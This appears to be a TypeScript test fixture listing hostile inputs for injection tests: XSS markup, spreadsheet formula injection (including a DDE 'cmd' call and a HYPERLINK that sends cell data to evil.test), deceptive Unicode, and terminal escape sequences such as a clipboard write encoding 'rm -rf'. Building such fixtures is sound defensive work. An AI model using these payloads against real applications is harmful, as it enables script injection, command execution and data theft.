/**
 * What targets, tags, claims and people may be called to attack whoever reads it (T05, T28, T39). Each markup payload calls `alert` or sets
 * `pwned`, so that a test sees it run. Named by what they try.
 */
export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt>globalThis.pwned=1</sCrIpT>',
  '<script src=//evil.test/x.js></script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="globalThis.pwned=1">',
  '"><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></mtext><script>alert(1)</script></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<meta http-equiv="refresh" content="0;url=//evil.test">',
  '<base href="//evil.test/">',
  '<link rel=stylesheet href="//evil.test/x.css">',
  '<style>@import "//evil.test/x.css";</style>',
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '__CSP_NONCE__',
  "$&$`$'$1",
  '`;alert(1)//',
  '\\";alert(1)//',
  '{"__proto__":{"pwned":1}}',
  '__proto__',
  'constructor',
];

export const FORMULAS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '|calc',
  '%0A=1+1',
  '"=1+1"',
  ',"=1+1",',
  ';=1+1',
];

/** Printable to a schema, and yet not what they look like: direction, invisible characters, C1 controls, separators. */
const DECEPTIONS: readonly string[] = [
  'invoice\u202egnp.exe',
  '\u2066isolated\u2069 \u202aembedded\u202c',
  '\u061carabic mark',
  'zero\u200bwidth\u200djoined\ufeff',
  'soft\u00adhyphen',
  'tag\u{e0001}\u{e0041}',
  'next\u0085line\u2028line\u2029paragraph',
  '\u009b2J\u009d0;title\u009c',
  'раураl (cyrillic)',
  '％００ full width ＜script＞alert(1)＜/script＞',
];

/** What no schema may let into a name. */
export const CONTROLS: readonly string[] = [
  'nul\u0000byte',
  '\u001b[2J\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u001b]52;c;cm0gLXJm\u0007',
  '\u001b]8;;http://evil.test\u0007link\u001b]8;;\u0007',
  'line\nbreak',
  'line\r\nSet-Cookie: x=y',
  'tab\tstop',
  'bell\u0007',
  'back\b\b\b\bspace',
  'delete\u007f',
];

/** Everything that a name may be: 60 and more. */
export const HOSTILE_NAMES: readonly string[] = [...MARKUP, ...FORMULAS, ...DECEPTIONS];
